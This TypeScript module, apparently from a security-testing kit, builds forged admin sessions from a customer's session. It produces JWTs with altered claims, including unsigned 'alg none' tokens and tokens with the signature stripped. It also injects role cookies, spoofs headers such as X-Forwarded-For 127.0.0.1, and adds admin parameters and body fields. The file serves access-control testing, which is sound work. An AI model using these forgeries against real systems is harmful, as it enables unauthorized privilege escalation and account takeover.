/** Sessions and requests that claim a role which nobody gave. */
import type { ClientRequest, Session } from '../kit/index.ts';
import { jsonId } from './contract.ts';

const toBase64Url = (text: string) =>
  btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');

function fromBase64Url(text: string): unknown {
  try {
    return JSON.parse(atob(text.replaceAll('-', '+').replaceAll('_', '/')));
  } catch {
    return undefined;
  }
}

function decodeQuietly(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

const isRecord = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** The claims of an admin, in the words that apps use, and of the admin whose id is known. */
function promoted(claims: Record<string, unknown>, adminId: string): Array<Record<string, unknown>> {
  const rights = { role: 'admin', roles: ['admin'], isAdmin: true, is_admin: true, admin: true };
  const ids = Object.fromEntries(
    Object.entries(claims)
      .filter(([key]) => /^(sub|id|uid|user_?id)$/i.test(key))
      .map(([key, value]) => [key, typeof value === 'number' ? Number(adminId) : adminId]),
  );
  return [
    { ...claims, ...rights },
    { ...claims, ...ids, ...rights },
  ];
}

/** One value of a session, rewritten: a token with other claims, or a plain value with another word in it. */
function rewritten(value: string, adminId: string): Array<{ how: string; value: string }> {
  const plain = decodeQuietly(value);
  const [head = '', payload = '', signature = ''] = plain.split('.');
  const claims = fromBase64Url(payload);
  if (isRecord(claims)) {
    const none = toBase64Url(JSON.stringify({ alg: 'none', typ: 'JWT' }));
    return promoted(claims, adminId).flatMap((changed) => {
      const body = toBase64Url(JSON.stringify(changed));
      return [
        { how: 'changed claims under the old signature', value: `${head}.${body}.${signature}` },
        { how: 'changed claims, unsigned', value: `${none}.${body}.` },
        { how: 'changed claims and no signature', value: `${head}.${body}.` },
      ];
    });
  }
  const words = plain.replaceAll(/\buser\b/g, 'admin');
  const whole = fromBase64Url(plain);
  const packed = isRecord(whole) ? promoted(whole, adminId) : [];
  return [
    ...(words === plain ? [] : [{ how: 'the word admin in it', value: encodeURIComponent(words) }]),
    ...packed.map((changed) => ({ how: 'changed content', value: toBase64Url(JSON.stringify(changed)) })),
  ];
}

/** Headers that carry a customer's session, rewritten to be an admin's or with claims beside it. */
export function forgedSessions(
  { client, bearer }: Session,
  adminId: string,
): Array<{ how: string; headers: Record<string, string> }> {
  const cookies = client.jar.all.map(({ name, value }) => ({ name, value }));
  const header = (list: typeof cookies) => list.map(({ name, value }) => `${name}=${value}`).join('; ');
  const own: Record<string, string> = bearer === undefined ? {} : { Authorization: `Bearer ${bearer}` };
  const forged: Array<{ how: string; headers: Record<string, string> }> = [
    {
      how: 'cookies that claim the role',
      headers: { ...own, Cookie: `${header(cookies)}; role=admin; user_role=admin; isAdmin=true; admin=1` },
    },
  ];
  for (const [index, { name, value }] of cookies.entries()) {
    for (const { how, value: changed } of rewritten(value, adminId)) {
      const Cookie = header(cookies.with(index, { name, value: changed }));
      forged.push({ how: `${how}, in the cookie ${name}`, headers: { Cookie } });
      forged.push({ how: `${how}, as a header`, headers: { Authorization: `Bearer ${changed}` } });
    }
  }
  for (const { how, value } of bearer === undefined ? [] : rewritten(bearer, adminId)) {
    forged.push({ how, headers: { Authorization: `Bearer ${value}` } });
  }
  return forged;
}

/** A customer's own requests with claims beside the session. */
export function disguises(
  boss: Session,
): Array<{ how: string; change(request: ClientRequest): ClientRequest }> {
  const withHeaders = (headers: Record<string, string>) => (request: ClientRequest) => ({
    ...request,
    headers: { ...request.headers, ...headers },
  });
  return [
    {
      how: 'headers that claim the role',
      change: withHeaders({
        'X-Role': 'admin',
        'X-User-Role': 'admin',
        'X-Admin': 'true',
        'X-Is-Admin': '1',
        'X-User-Id': boss.id,
        'X-Forwarded-User': boss.who.email,
      }),
    },
    {
      how: 'headers that claim to come from inside',
      change: withHeaders({ 'X-Forwarded-For': '127.0.0.1', 'X-Real-IP': '127.0.0.1', Referer: '/admin' }),
    },
    {
      how: 'parameters that claim the role',
      change: (request) => ({
        ...request,
        path: `${request.path}?role=admin&isAdmin=true&admin=1&userId=${boss.id}`,
      }),
    },
    {
      how: 'a body that claims the role',
      change: (request) =>
        request.method === undefined
          ? request
          : {
              ...request,
              json: {
                isAdmin: true,
                admin: true,
                userId: jsonId(boss.id),
                actor_id: jsonId(boss.id),
                ...(isRecord(request.json) ? request.json : { role: 'admin' }),
              },
            },
    },
  ];
}
